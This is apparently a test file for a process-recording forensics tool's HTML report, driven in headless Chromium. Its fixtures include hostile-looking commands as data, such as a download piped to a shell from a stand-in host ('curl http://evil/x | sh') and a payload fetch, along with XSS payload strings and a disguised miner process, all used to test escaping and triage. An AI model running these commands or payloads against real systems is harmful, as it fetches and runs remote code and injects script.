/**
 * The HTML report in a real browser: Debian's Chromium driven by
 * playwright-core (never a downloaded browser). Opens the report of a
 * recording from a file:// URL, expands a node, searches for an image,
 * checks what is shown, asserts that no network request was made, and saves
 * a screenshot to test-artifacts/report.png. Also opens a report of 100,000
 * processes and checks that only the rows in view are in the page.
 *
 * Not skipped: scripts/setup.sh installs chromium; without it this fails.
 */
import { quoteArg } from "../cli/analysis/mod.ts";
import { escapeText } from "../cli/text/escape_text.ts";
import type { ProcEvent } from "../cli/events/types.ts";
import "../cli/bundle/_zip.ts"; // zip.js without web workers
import { Uint8ArrayReader, Uint8ArrayWriter, ZipReader } from "@zip.js/zip.js";
import { type BrowserContext, chromium, type Page } from "playwright-core";
import {
  fixtureRecordings,
  incidentEvents,
  inTempDir,
  procrec,
  writeIncident,
  writeLarge,
} from "./_bundle_helpers.ts";
import { assert, assertEquals } from "./_record_helpers.ts";
import { processCreate, testHeader } from "./_recording_helpers.ts";
import { RecordingWriter } from "../cli/log/mod.ts";
import { scanItem } from "../cli/log/_cbor_scan.ts";

const CHROMIUM = "/usr/bin/chromium";
const ROOT = new URL("..", import.meta.url).pathname;

/** Opens `html` in a fresh headless Chromium; records every request and page error. */
async function withPage(
  html: string,
  fn: (page: Page, requests: string[], errors: string[]) => Promise<void>,
): Promise<void> {
  try {
    await Deno.stat(CHROMIUM);
  } catch {
    throw new Error(
      `${CHROMIUM} is missing: install Debian's chromium (scripts/setup.sh does)`,
    );
  }
  const profile = await Deno.makeTempDir({ prefix: "procrec-chromium-" });
  let ctx: BrowserContext | undefined;
  try {
    ctx = await chromium.launchPersistentContext(profile, {
      executablePath: CHROMIUM,
      headless: true,
      viewport: { width: 1400, height: 800 },
      args: [
        "--headless",
        "--no-sandbox",
        "--disable-gpu",
        "--no-first-run",
        "--disable-background-networking",
        "--disable-component-update",
        "--disable-sync",
      ],
    });
    const requests: string[] = [];
    const errors: string[] = [];
    ctx.on("request", (r) => requests.push(r.url()));
    const page = ctx.pages()[0] ?? await ctx.newPage();
    page.setDefaultTimeout(120_000); // a loaded CI machine is slow, not wrong
    page.on("pageerror", (e) => errors.push(e.message));
    page.on("console", (m) => {
      if (m.type() === "error") errors.push(m.text());
    });
    await page.goto(`file://${html}`);
    await page.waitForSelector("body[data-ready='1']", { timeout: 120_000 });
    await fn(page, requests, errors);
  } finally {
    await ctx?.close();
    await Deno.remove(profile, { recursive: true });
  }
}

/** The commands of the rows in the DOM, top to bottom. */
async function rowCommands(page: Page): Promise<string[]> {
  return await page.$$eval(".row", (rows) =>
    rows
      .sort((a, b) => parseInt(a.style.top) - parseInt(b.style.top))
      .map((r) => r.querySelector(".cmd")!.textContent!));
}

/** Waits until the match counter shows `text`. */
async function waitMatches(page: Page, text: string): Promise<void> {
  await page.locator("#matches", { hasText: text }).waitFor();
}

function row(page: Page, command: string | RegExp) {
  return page.locator(".row", {
    has: page.locator(".cmd", { hasText: command }),
  });
}

const MS = 1_000_000;

/**
 * A whole-host-like recording for triage: the incident workload, plus
 * kthreadd and 60 kernel threads running before the recording, a setuid
 * `passwd` run by uid 1000, a fileless image, and a `wget` whose image has a
 * SHA-256.
 */
function triageEvents(): ProcEvent[] {
  const e: ProcEvent[] = [{
    kind: "process_snapshot",
    t: 0,
    pid: 2,
    tid: 2,
    ppid: 0,
    start: -5_000 * MS,
    info: { comm: "kthreadd", from: {} },
  }];
  for (let i = 0; i < 60; i++) {
    e.push({
      kind: "process_snapshot",
      t: 0,
      pid: 10 + i,
      tid: 10 + i,
      ppid: 2,
      start: -4_000 * MS,
      info: { comm: `kworker/${i}:0`, from: {} },
    });
  }
  const exec = (
    t: number,
    pid: number,
    info: Record<string, unknown>,
  ): ProcEvent[] => [
    processCreate(t, pid, 100),
    {
      kind: "exec",
      t: t + MS / 10,
      pid,
      tid: pid,
      info: { from: { image: "kernel", argv: "kernel" }, ...info },
    } as ProcEvent,
  ];
  const extra: ProcEvent[] = [
    ...exec(215 * MS, 120, {
      image: "/usr/bin/passwd",
      argv: ["passwd"],
      uid: 1000,
      euid: 0,
      gid: 1000,
      egid: 1000,
      cwd: "/home/eve",
    }),
    { kind: "process_exit", t: 218 * MS, pid: 120, tid: 120, status: 0 },
    ...exec(250 * MS, 121, {
      image: "/memfd:stage (deleted)",
      argv: ["x"],
      fileless: true,
    }),
    { kind: "process_exit", t: 251 * MS, pid: 121, tid: 121, status: 0 },
    ...exec(270 * MS, 122, {
      image: "/usr/bin/wget",
      argv: ["wget", "-q", "http://192.0.2.5/x"],
      sha256: WGET_SHA,
    }),
    { kind: "process_exit", t: 275 * MS, pid: 122, tid: 122, status: 0 },
  ];
  return [...incidentEvents(), ...e, ...extra].sort((a, b) => a.t - b.t);
}
const WGET_SHA =
  "5e884898da28047151d0e56f8dc6292773603d0d6aabbdd62a11ef721d1542d8";

/** Every cell of the pid, start and duration columns shows its whole text. */
async function cutCells(page: Page): Promise<string[]> {
  return await page.$$eval(
    ".row .pid, .row .start, .row .dur, .row .exit, .row .user, .cols span:not(.ruler)",
    (cells) =>
      cells.filter((c) => c.scrollWidth > c.clientWidth).map((c) =>
        `${c.className}: ${c.textContent} (${c.scrollWidth} > ${c.clientWidth})`
      ),
  );
}

/** Drags across the overview timeline from time `a` to `b` (ns). */
async function brush(page: Page, a: number, b: number): Promise<void> {
  const box = (await page.locator("#overview").boundingBox())!;
  const data = JSON.parse((await page.textContent("#procrec-data"))!);
  // (the timeline runs to the recording's end, when known)
  const { first, last, end } = data.recordings[0];
  const stop = end ?? last;
  const x = (t: number) => box.x + (t - first) / (stop - first) * box.width;
  const y = box.y + box.height / 3;
  await page.mouse.move(x(a), y);
  await page.mouse.down();
  await page.mouse.move((x(a) + x(b)) / 2, y, { steps: 3 });
  await page.mouse.move(x(b), y, { steps: 3 });
  await page.mouse.up();
}

Deno.test("report for triage: kernel threads folded, activity open, chips, a brushed window, search by pid, user, hash and exit, uncut columns", async () => {
  await inTempDir(async (dir) => {
    // closed 10 ms after its last event, as a recorder closes: written at
    // the clock's now, its trailer would end months after its time base,
    // a timeline the brush below cannot cut 20 ms from
    const w = await RecordingWriter.create(`${dir}/host.cbor`, testHeader(), {
      chunkEvents: 5,
      flushIntervalMs: 0,
    });
    for (const e of triageEvents()) w.write(e);
    await w.close({
      endUtcNs: testHeader().timeBase.utcNs + 320n * BigInt(MS),
    });
    const r = await procrec(["report", "host.cbor", "-o", "host.html"], {
      cwd: dir,
    });
    assertEquals(r.code, 0, r.stderr);
    await withPage(`${dir}/host.html`, async (page, requests, errors) => {
      // opens on the activity: kthreadd folded, its 60 children not shown
      const first = await rowCommands(page);
      assertEquals(first.slice(0, 3), [
        "/sbin/init",
        "sh -c incident.sh",
        "ls /",
      ]);
      for (const c of ["sleep 0.2", "passwd", "wget -q http://192.0.2.5/x"]) {
        assert(first.includes(c), `${c} is shown: ${first}`);
      }
      assertEquals(
        await row(page, "[kthreadd]").locator(".toggle").textContent(),
        "\u25B8",
        "kthreadd is folded",
      );
      assert(!first.some((c) => c.includes("kworker")), first.join("\n"));
      assertEquals(
        await page.textContent("#shown"),
        "13 of 73 processes shown",
        "at first",
      );
      assertEquals(await cutCells(page), [], "no column is cut");

      // chips: failed (curl exit 7, python3 SIGKILL, the subshell exit 3)
      const chip = (name: string) => page.locator(`.chip[data-chip="${name}"]`);
      assertEquals(await chip("failed").textContent(), "failed (3)");
      assertEquals(await chip("setuid").textContent(), "setuid (1)");
      assertEquals(await chip("fileless").textContent(), "fileless (1)");
      assertEquals(
        await chip("existing-before").textContent(),
        "existing-before (62)",
      );
      await chip("failed").click();
      assertEquals(
        await page.textContent("#shown"),
        "5 of 73 processes shown, 3 pass the filters",
      );
      assertEquals(await rowCommands(page), [
        "/sbin/init",
        "sh -c incident.sh",
        "sh",
        "python3 -c 'serve()'",
        "curl -s http://198.51.100.7/payload",
      ]);
      assert(
        /\bctx\b/.test((await row(page, "/sbin/init").getAttribute("class"))!),
        "an ancestor shown for context is marked",
      );
      // AND across chips: failed and signal leave the killed python3
      await chip("signal").click();
      assertEquals(
        await page.textContent("#shown"),
        "3 of 73 processes shown, 1 pass the filters",
      );
      await chip("failed").click();
      await chip("signal").click();
      await chip("setuid").click();
      assertEquals(await rowCommands(page), [
        "/sbin/init",
        "sh -c incident.sh",
        "passwd",
      ]);
      await chip("setuid").click();
      await chip("fileless").click();
      assertEquals((await rowCommands(page)).at(-1), "x");
      await chip("fileless").click();
      assertEquals(
        await page.textContent("#shown"),
        "13 of 73 processes shown",
        "chips off",
      );

      // brushing: the processes started between 235 and 255 ms
      await brush(page, 235 * MS, 255 * MS);
      await page.locator("#shown", { hasText: "pass the filters" }).waitFor();
      assertEquals(await rowCommands(page), [
        "/sbin/init",
        "sh -c incident.sh",
        "curl -s http://198.51.100.7/payload",
        "x",
      ]);
      const win = (await page.textContent("#window"))!;
      assert(
        /^2026-09-21T14:13:20\.23\d+Z to 2026-09-21T14:13:20\.25\d+Z/.test(win),
        win,
      );
      // zoomed: curl's 20 ms lifetime fills most of a ~20 ms window
      const style = (await row(page, "curl -s").locator(".bar")
        .getAttribute("style"))!;
      const width = parseFloat(/width: ([\d.]+)%/.exec(style)![1]);
      assert(width > 50, `curl's bar is ${width}% wide`);
      // alive in the window: python3 (210-300 ms) and sh -c too
      await page.selectOption("#winmode", "alive");
      const alive = await rowCommands(page);
      assert(alive.includes("python3 -c 'serve()'"), alive.join("\n"));
      assert(!alive.includes("passwd"), alive.join("\n"));
      // a chip and the window combine
      await chip("failed").click();
      assertEquals(
        await page.textContent("#shown"),
        "4 of 73 processes shown, 2 pass the filters",
      );
      await chip("failed").click();
      await page.click("#resetwin");
      assertEquals(
        await page.textContent("#shown"),
        "13 of 73 processes shown",
      );
      await page.selectOption("#winmode", "started");

      // search by pid, pid:, user, hash, exit status
      const find = async (q: string, cmd: string, count: number) => {
        await page.fill("#search", q);
        await page.press("#search", "Enter");
        await page.locator(".row.sel .cmd", { hasText: cmd }).waitFor();
        assertEquals(
          await page.textContent("#matches"),
          `1 / ${count} matches`,
          q,
        );
      };
      await find("105", "sleep 0.2", 1);
      assert((await page.textContent("#details"))!.includes("pid: 105"));
      await find("pid:122", "wget", 1);
      await find("user:1000", "passwd", 1);
      const details = (await page.textContent("#details"))!;
      for (const s of ["user: uid 1000 as uid 0", "cwd: /home/eve", "setuid"]) {
        assert(details.includes(s), `details show ${s}: ${details}`);
      }
      await find(WGET_SHA.slice(10, 30), "wget", 1);
      assert(
        (await page.textContent("#details"))!.includes(`sha256: ${WGET_SHA}`),
      );
      await find("hash:5e8848", "wget", 1);
      await find("exit:7", "curl", 1);
      await find("sigkill", "python3", 1);
      await page.fill("#search", "pid:99999");
      await page.press("#search", "Enter");
      await waitMatches(page, "no match");

      // a kernel thread is one search away
      await find("kworker/59", "kworker/59:0", 1);
      assertEquals(await cutCells(page), [], "no column is cut");
      await page.screenshot({
        path: `${ROOT}test-artifacts/report-triage.png`,
      });
      assertEquals(errors, [], "no page errors");
      assertEquals(requests, [`file://${dir}/host.html`], "no network");
    });
  });
});

Deno.test("a damaged final chunk: processes whose end was in it are 'unknown (damaged)' in the tree, the JSON and the report; the loss has real bounds", async () => {
  await inTempDir(async (dir) => {
    // the incident, closed 320 ms after its time base, in chunks of 5 events
    const header = testHeader();
    const w = await RecordingWriter.create(`${dir}/dam.cbor`, header, {
      chunkEvents: 5,
      flushIntervalMs: 0,
    });
    for (const e of incidentEvents()) w.write(e);
    await w.close({ endUtcNs: header.timeBase.utcNs + 320n * BigInt(MS) });
    // flip a byte inside the last chunk: the exits of python3 and sh are in it
    const bytes = await Deno.readFile(`${dir}/dam.cbor`);
    const ends: number[] = [];
    for (let p = 0; p < bytes.length; p = scanItem(bytes, p)) ends.push(p);
    const lastChunkEnd = ends[ends.length - 1]; // where the trailer begins
    bytes[lastChunkEnd - 3] ^= 0xff;
    await Deno.writeFile(`${dir}/dam.cbor`, bytes);

    const tree = await procrec(["replay", "dam.cbor"], { cwd: dir });
    assertEquals(tree.code, 0, tree.stderr);
    const line = (pid: number) =>
      tree.stdout.split("\n").find((l) => l.includes(`[${pid}]`)) ?? "";
    for (const pid of [1, 100, 106]) {
      assert(
        line(pid).includes("unknown (damaged)") &&
          line(pid).includes("end-lost"),
        `pid ${pid}: ${line(pid)}`,
      );
    }
    assert(line(108).includes("exit 7"), line(108));
    assert(!tree.stdout.includes("running"), tree.stdout);
    assert(tree.stderr.includes("3 events known missing"), tree.stderr);

    const sum = await procrec(["replay", "--summary", "dam.cbor"], {
      cwd: dir,
    });
    assert(
      /\+ \(unknown \(damaged\)\) {2}pid 1 {2}\/sbin\/init/.test(sum.stdout) &&
        !sum.stdout.includes("(running)"),
      sum.stdout,
    );

    const json = await procrec(["replay", "--json", "dam.cbor"], { cwd: dir });
    assertEquals(json.code, 0, json.stderr);
    const forest = JSON.parse(json.stdout);
    const byPid = new Map<number, Record<string, unknown>>(
      forest.processes.map((p: { pid: number }) => [p.pid, p]),
    );
    for (const pid of [1, 100, 106]) {
      assertEquals(byPid.get(pid)!.endState, "unknown (damaged)", `pid ${pid}`);
    }
    assertEquals(byPid.get(108)!.endState, undefined);
    // the damaged tail is a lost span from the last event read to the close
    assertEquals(forest.lost.at(-1), {
      from: 260 * MS,
      to: 320 * MS,
      reason: "recording",
      count: 3,
      countUnknown: false,
    });

    const r = await procrec(["report", "dam.cbor", "-o", "dam.html"], {
      cwd: dir,
    });
    assertEquals(r.code, 0, r.stderr);
    await withPage(`${dir}/dam.html`, async (page, requests, errors) => {
      for (const cmd of ["/sbin/init", "sh -c incident.sh", "python3"]) {
        assertEquals(
          await row(page, cmd).locator(".exit").textContent(),
          "unknown (damaged)",
          cmd,
        );
        assertEquals(
          await row(page, cmd).locator(".bar").getAttribute("class"),
          "bar c4",
          `${cmd}: grey, unknown`,
        );
      }
      const meta = (await page.textContent("#meta"))!;
      assert(
        meta.includes(
          "events missing3 (in damaged or missing chunks; the trailer counts 28 events)",
        ),
        meta,
      );
      const lost = (await page.textContent("#lostlist"))!;
      assert(
        lost.includes(
          "lost 3 events in damaged or missing chunks of the recording between 2026-09-21T14:13:20.260Z and 2026-09-21T14:13:20.320Z",
        ),
        lost,
      );
      assertEquals(errors, [], "no page errors");
      assertEquals(requests, [`file://${dir}/dam.html`], "no network");
    });
  });
});

Deno.test("report of a Sysmon import: details show user, cwd, Hashes and the ProcessGuid; search by pid and by hash", async () => {
  await inTempDir(async (dir) => {
    const imp = await procrec([
      "import",
      "sysmon",
      `${ROOT}fixtures/sysmon/otrf_empire_runkeys_standard_user_sysmon_eid1_eid5.jsonl`,
      "-o",
      `${dir}/emp.cbor`,
    ]);
    assertEquals(imp.code, 0, imp.stderr);
    const rec = `${dir}/emp.WORKSTATION5.theshire.local.cbor`;
    const r = await procrec(["report", rec, "-o", `${dir}/emp.html`]);
    assertEquals(r.code, 0, r.stderr);
    await withPage(`${dir}/emp.html`, async (page, requests, errors) => {
      await page.fill("#search", "pid:4796");
      await page.press("#search", "Enter");
      await page.locator(".row.sel .cmd", { hasText: "svchost" }).waitFor();
      const details = (await page.textContent("#details"))!;
      for (
        const s of [
          "process guid: {3ddc5665-e7a6-5f51-5101-000000000400}",
          "hashes: SHA1=75C5A97F521F760E32A4A9639A653EED862E9C61,MD5=",
          "user: NT AUTHORITY\\SYSTEM",
          "cwd: C:\\windows\\system32\\",
        ]
      ) assert(details.includes(s), `details show ${s}: ${details}`);
      // the SHA256 of Sysmon's Hashes, lowercase, finds the same image
      await page.fill("#search", "hash:dd191a5b23df92e1");
      await page.press("#search", "Enter");
      await page.locator(".row.sel .cmd", { hasText: "svchost" }).waitFor();
      assert(
        /^1 \/ \d+ matches$/.test((await page.textContent("#matches"))!),
        (await page.textContent("#matches"))!,
      );
      assertEquals(errors, [], "no page errors");
      assertEquals(requests, [`file://${dir}/emp.html`], "no network");
    });
  });
});

Deno.test("a damaged chunk in the middle is a lost span from the last event before it to the first after it", async () => {
  await inTempDir(async (dir) => {
    await writeIncident(`${dir}/mid.cbor`); // chunks of 5 events
    const bytes = await Deno.readFile(`${dir}/mid.cbor`);
    const starts: number[] = [];
    for (let p = 0; p < bytes.length; p = scanItem(bytes, p)) starts.push(p);
    // items: header, chunks 0.., trailer; damage chunk 2 (events 10 to 14)
    bytes[starts[4] - 3] ^= 0xff;
    await Deno.writeFile(`${dir}/mid.cbor`, bytes);
    const json = await procrec(["replay", "--json", "mid.cbor"], { cwd: dir });
    assertEquals(json.code, 0, json.stderr);
    const lost = JSON.parse(json.stdout).lost;
    const events = incidentEvents();
    assertEquals(
      lost.find((s: { reason: string }) => s.reason === "recording"),
      {
        from: events[9].t,
        to: events[15].t,
        reason: "recording",
        count: 5,
        countUnknown: false,
      },
    );
  });
});

Deno.test("report: the tree expands, search finds an image, the timeline colours exits, no network", async () => {
  await inTempDir(async (dir) => {
    await writeIncident(`${dir}/incident.cbor`);
    const r = await procrec(["report", "incident.cbor", "-o", "report.html"], {
      cwd: dir,
    });
    assertEquals(r.code, 0, r.stderr);
    const html = `${dir}/report.html`;
    await withPage(html, async (page, requests, errors) => {
      // metadata
      const meta = await page.textContent("#meta");
      for (
        const s of [
          "testhost",
          "6.18.0-test",
          "00000000-0000-4000-8000-000000000001",
          "2026-09-21T14:13:20.000000000Z",
          "complete, chain intact",
          "ring_full 5 in 1 spans",
        ]
      ) assert(meta!.includes(s), `metadata shows ${s}: ${meta}`);
      // small trees open fully
      assertEquals(await page.textContent("#shown"), "9 of 9 processes shown");

      // collapse everything, then expand node by node
      await page.click("#collapseall");
      assertEquals(await rowCommands(page), ["/sbin/init"]);
      await row(page, "/sbin/init").locator(".toggle").click();
      assertEquals(await rowCommands(page), [
        "/sbin/init",
        "sh -c incident.sh",
      ]);
      await row(page, "sh -c incident.sh").locator(".toggle").click();
      assertEquals(await rowCommands(page), [
        "/sbin/init",
        "sh -c incident.sh",
        "ls /",
        "ls /",
        "ls /",
        "sh",
        "python3 -c 'serve()'",
        "curl -s http://198.51.100.7/payload",
      ]);
      assertEquals(
        await row(page, "sh -c incident.sh").locator(".toggle").textContent(),
        "\u25BE",
      );
      assertEquals(
        await row(page, /^sh$/).locator(".toggle")
          .textContent(),
        "\u25B8",
        "the subshell is still collapsed",
      );

      // search by image: the collapsed subshell opens to show sleep
      await page.click("#collapseall");
      await page.fill("#search", "/usr/bin/sleep");
      await page.press("#search", "Enter");
      await waitMatches(page, "/ 1");
      assertEquals(await page.textContent("#matches"), "1 / 1 matches");
      assertEquals(await rowCommands(page), [
        "/sbin/init",
        "sh -c incident.sh",
        "ls /",
        "ls /",
        "ls /",
        "sh",
        "sleep 0.2",
        "python3 -c 'serve()'",
        "curl -s http://198.51.100.7/payload",
      ]);
      const hit = row(page, "sleep 0.2");
      assert(
        /\bmatch\b/.test((await hit.getAttribute("class"))!),
        "the match is highlighted",
      );
      const details = await page.textContent("#details");
      assert(
        details!.includes("/usr/bin/sleep") && details!.includes("pid: 105"),
        `details: ${details}`,
      );

      // search by argv
      await page.fill("#search", "payload");
      await page.press("#search", "Enter");
      await page.locator(".row.sel .cmd", { hasText: "payload" }).waitFor();
      assertEquals(await page.textContent("#matches"), "1 / 1 matches");
      assert(
        (await page.textContent("#details"))!.includes("exit 7"),
        "curl failed with 7",
      );

      // timeline: exit status by colour, lost span on every timeline cell
      const bar = async (cmd: string) =>
        (await row(page, cmd).locator(".bar").getAttribute("class"))!;
      assertEquals(await bar("curl -s"), "bar c1", "failed: red");
      assertEquals(await bar("python3"), "bar c2", "killed: purple");
      assertEquals(await bar("sleep 0.2"), "bar c0", "exit 0: green");
      assertEquals(await bar("/sbin/init"), "bar c3", "still running");
      const bg = await row(page, "python3").locator(".tl").getAttribute(
        "style",
      );
      assert(bg!.includes("linear-gradient"), `lost band: ${bg}`);
      assert(
        /\blostflag\b/.test(
          (await row(page, "python3").getAttribute("class"))!,
        ),
        "python3 overlaps the lost span",
      );
      assert(
        (await page.textContent("#lostlist"))!.includes(
          "lost 5 events (ring_full)",
        ),
        "lost spans listed",
      );

      await Deno.mkdir(`${ROOT}test-artifacts`, { recursive: true });
      await page.screenshot({ path: `${ROOT}test-artifacts/report.png` });
      assertEquals(errors, [], "no page errors");
      assertEquals(
        requests,
        [`file://${html}`],
        "the report loads nothing but itself",
      );
    });
  });
});

Deno.test("report: 100,000 processes render lazily, and search still finds one", async () => {
  await inTempDir(async (dir) => {
    await writeLarge(`${dir}/large.cbor`, 100_000);
    const r = await procrec(["report", "large.cbor", "-o", "large.html"], {
      cwd: dir,
    });
    assertEquals(r.code, 0, r.stderr);
    await withPage(`${dir}/large.html`, async (page, requests, errors) => {
      assertEquals(
        await page.textContent("#shown"),
        "1101 of 100101 processes shown",
        "the latest activity opens: sh, its 100 makes, the last make's 1000 jobs",
      );
      await page.click("#expandall");
      assertEquals(
        await page.textContent("#shown"),
        "100101 of 100101 processes shown",
      );
      const inDom = await page.locator(".row").count();
      assert(inDom > 10 && inDom < 200, `${inDom} rows in the DOM`);
      await page.click("#collapseall");
      await page.fill("#search", "job-99999.c");
      await page.press("#search", "Enter");
      await row(page, "cc -c job-99999.c").waitFor();
      assertEquals(await page.textContent("#matches"), "1 / 1 matches");
      assertEquals(
        await page.textContent("#shown"),
        "1101 of 100101 processes shown",
        "only the path to the match opened: sh, 100 makes, part-99's 1000 jobs",
      );
      await page.fill("#search", "/usr/bin/make");
      await page.press("#search", "Enter");
      await page.locator("#matches", { hasText: "1 / 100 matches" }).waitFor();
      assert((await page.locator(".row").count()) < 200, "still lazy");
      // the last row can be scrolled to
      await page.click("#expandall");
      await page.locator("#viewport").evaluate(
        (v: { scrollTop: number; scrollHeight: number }) => {
          v.scrollTop = v.scrollHeight;
        },
      );
      await row(page, "cc -c job-99999.c").waitFor();
      assertEquals(errors, [], "no page errors");
      assertEquals(requests, [`file://${dir}/large.html`], "no network");
    });
  });
});

Deno.test("report: a bundle's report (written by report, and inside the bundle) holds each recording", async () => {
  await inTempDir(async (dir) => {
    await writeIncident(`${dir}/first.cbor`);
    await writeIncident(
      `${dir}/second.cbor`,
      incidentEvents(1).filter((e) => e.pid !== 104 && e.pid !== 105),
    );
    const b = await procrec([
      "bundle",
      "create",
      "-o",
      "case.zip",
      "first.cbor",
      "second.cbor",
      "--case",
      "IR-9",
    ], { cwd: dir });
    assertEquals(b.code, 0, b.stderr);
    const r = await procrec(["report", "case.zip", "-o", "case.html"], {
      cwd: dir,
    });
    assertEquals(r.code, 0, r.stderr);
    // the report procrec report writes, and the one inside the bundle
    const zip = new ZipReader(
      new Uint8ArrayReader(await Deno.readFile(`${dir}/case.zip`)),
    );
    for (const e of await zip.getEntries()) {
      if (e.filename === "report.html" && !e.directory) {
        await Deno.writeFile(
          `${dir}/inside.html`,
          await e.getData(new Uint8ArrayWriter()),
        );
      }
    }
    await zip.close();
    for (const html of ["case.html", "inside.html"]) {
      await withPage(`${dir}/${html}`, async (page, requests, errors) => {
        const meta = await page.textContent("#meta");
        assert(meta!.includes("IR-9") && meta!.includes("first.cbor"), meta!);
        assertEquals(
          await page.textContent("#shown"),
          "9 of 9 processes shown",
        );
        await page.selectOption("#recording", { label: "second.cbor" });
        assertEquals(
          await page.textContent("#shown"),
          "7 of 7 processes shown",
        );
        assert(
          (await page.textContent("#meta"))!.includes("second.cbor"),
          "switched",
        );
        await row(page, "203.0.113.9").waitFor();
        assertEquals(errors, [], "no page errors");
        assertEquals(requests, [`file://${dir}/${html}`], "no network");
      });
    }
  });
});

Deno.test("report: every golden fixture shows all its processes; a Windows image is found", async () => {
  const FIX = `${ROOT}fixtures/`;
  const names = await fixtureRecordings();
  assert(names.length >= 8, `fixtures/ holds ${names.length} recordings`);
  await inTempDir(async (dir) => {
    const b = await procrec([
      "bundle",
      "create",
      "-o",
      `${dir}/fixtures.zip`,
      ...names.map((n) => FIX + n),
    ]);
    assertEquals(b.code, 0, b.stderr);
    const r = await procrec([
      "report",
      `${dir}/fixtures.zip`,
      "-o",
      `${dir}/f.html`,
    ]);
    assertEquals(r.code, 0, r.stderr);
    await withPage(`${dir}/f.html`, async (page, requests, errors) => {
      for (const n of names) {
        const tree = await Deno.readTextFile(
          FIX + n.replace(/\.cbor$/, ".tree.txt"),
        );
        const count = tree.trimEnd().split("\n").length;
        await page.selectOption("#recording", { label: n });
        assertEquals(
          await page.textContent("#shown"),
          `${count} of ${count} processes shown`,
          n,
        );
        assertEquals(await page.locator(".row").count(), count, n);
      }
      await page.selectOption("#recording", { label: "windows.cbor" });
      await page.fill("#search", "rundll32");
      await page.press("#search", "Enter");
      await page.locator(".row.sel .cmd", { hasText: "rundll32" }).waitFor();
      assert(
        (await page.textContent("#details"))!.includes(
          "parent-differs-from-creator",
        ),
        "the spoofed parent is flagged",
      );
      assertEquals(errors, [], "no page errors");
      assertEquals(requests, [`file://${dir}/f.html`], "no network");
    });
  });
});

Deno.test("report: hostile argv and image names are shown as text, never run or fetched", async () => {
  const evil = [
    `<img src="http://192.0.2.1/pixel.png" onerror="document.title='pwned'">`,
    `</script><script>document.title='pwned'</script>`,
    "\u2028line\u2029separators",
    // a right-to-left override that would show "evil.sh" as "hs.live",
    // an invisible space, an escape sequence, a newline inside an argument
    "\u202eevil.sh",
    "ssh\u200bd",
    "\x1b[2Jclear",
    "two\nlines",
  ];
  await inTempDir(async (dir) => {
    await writeIncident(`${dir}/evil.cbor`, [
      {
        kind: "process_create",
        t: 1000,
        pid: 66,
        tid: 66,
        ppid: 1,
        ptid: 1,
        creatorPid: 1,
        creatorTid: 1,
        start: 1000,
        info: {
          image: `/tmp/<b>x</b>`,
          argv: ["sh", ...evil],
          from: { image: "kernel", argv: "kernel" },
        },
      },
    ]);
    const r = await procrec(["report", "evil.cbor", "-o", "evil.html"], {
      cwd: dir,
    });
    assertEquals(r.code, 0, r.stderr);
    await withPage(`${dir}/evil.html`, async (page, requests, errors) => {
      let dialogs = 0;
      page.on("dialog", () => dialogs++);
      assertEquals(await page.title(), "procrec report: evil.cbor");
      // the command as the tree shows it: each argument quoted for a shell,
      // and every control, bidirectional or invisible character written
      // \uXXXX, as the terminal shows it
      const shown = escapeText(["sh", ...evil].map(quoteArg).join(" "));
      assertEquals(await rowCommands(page), [shown]);
      for (const c of ["\\u202e", "\\u200b", "\\u001b", "\\u000a", "\\u2028"]) {
        assert(shown.includes(c), `${c} in ${shown}`);
      }
      assertEquals(
        await page.$$eval(
          ".row .cmd",
          (cs) =>
            cs.filter((c) =>
              // deno-lint-ignore no-control-regex
              /[\u0000-\u001f\u007f-\u009f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]/
                .test(c.textContent!)
            ).length,
        ),
        0,
        "no raw control, bidirectional or invisible character in a row",
      );
      assertEquals(
        await page.locator(".row img, .row b, .row script").count(),
        0,
      );
      await page.fill("#search", "<b>x</b>");
      await page.press("#search", "Enter");
      await waitMatches(page, "1 / 1 matches");
      assertEquals(dialogs, 0);
      assertEquals(errors, [], "no page errors");
      assertEquals(requests, [`file://${dir}/evil.html`], "nothing fetched");
    });
  });
});

Deno.test("report: a process named as a kernel thread shows its real image in its row, as the tree does (found by review: only the hover and the details had it)", async () => {
  await inTempDir(async (dir) => {
    await writeIncident(`${dir}/masq.cbor`, [
      {
        kind: "process_create",
        t: 1000,
        pid: 400,
        tid: 400,
        ppid: 1,
        ptid: 1,
        creatorPid: 1,
        creatorTid: 1,
        start: 1000,
        info: {
          image: "/tmp/.x/miner",
          argv: ["[kworker/0:2-events]"],
          from: { image: "kernel", argv: "kernel" },
        },
      },
      {
        kind: "process_create",
        t: 2000,
        pid: 401,
        tid: 401,
        ppid: 1,
        ptid: 1,
        creatorPid: 1,
        creatorTid: 1,
        start: 2000,
        info: {
          image: "/usr/bin/ls",
          argv: ["ls", "-l"],
          from: { image: "kernel", argv: "kernel" },
        },
      },
    ]);
    const tree = await procrec(["replay", "masq.cbor"], { cwd: dir });
    assert(tree.stdout.includes("image /tmp/.x/miner"), tree.stdout);
    const r = await procrec(["report", "masq.cbor", "-o", "masq.html"], {
      cwd: dir,
    });
    assertEquals(r.code, 0, r.stderr);
    await withPage(`${dir}/masq.html`, async (page, _requests, errors) => {
      const text = async (command: string) =>
        (await row(page, command).locator(".tree").textContent()) ?? "";
      assert(
        (await text("[kworker/0:2-events]")).includes("image /tmp/.x/miner"),
        await text("[kworker/0:2-events]"),
      );
      // a command that shows its image has no such note
      assert(!(await text("ls -l")).includes("image"), await text("ls -l"));
      assertEquals(errors, []);
    });
  });
});

Deno.test("report: a program a kernel thread started shows at first; a row 80 deep shows its depth and its command in its column; a long command is cut in its row, whole in the details (found by review)", async () => {
  const events: ProcEvent[] = [
    {
      kind: "process_snapshot",
      t: 0,
      pid: 2,
      tid: 2,
      ppid: 0,
      start: -5_000 * MS,
      info: { comm: "kthreadd", from: {} },
    },
    {
      kind: "process_snapshot",
      t: 0,
      pid: 10,
      tid: 10,
      ppid: 2,
      start: -4_000 * MS,
      info: { comm: "kworker/0:0", from: {} },
    },
  ];
  // a chain 80 deep, its last a shell that pipes a download to a shell
  for (let d = 0; d < 80; d++) {
    events.push(processCreate(1 * MS + d, 1000 + d, d === 0 ? 1 : 999 + d));
  }
  events.push({
    kind: "exec",
    t: 2 * MS,
    pid: 1079,
    tid: 1079,
    info: {
      image: "/usr/bin/dash",
      argv: ["sh", "-c", "curl http://evil/x | sh"],
      from: {},
    },
  });
  const long = "A".repeat(5000);
  events.push(processCreate(3 * MS, 600, 1), {
    kind: "exec",
    t: 3 * MS + 1,
    pid: 600,
    tid: 600,
    info: { image: "/usr/bin/echo", argv: ["echo", long], from: {} },
  });
  // the newest: a program the kworker started (a usermode helper's way)
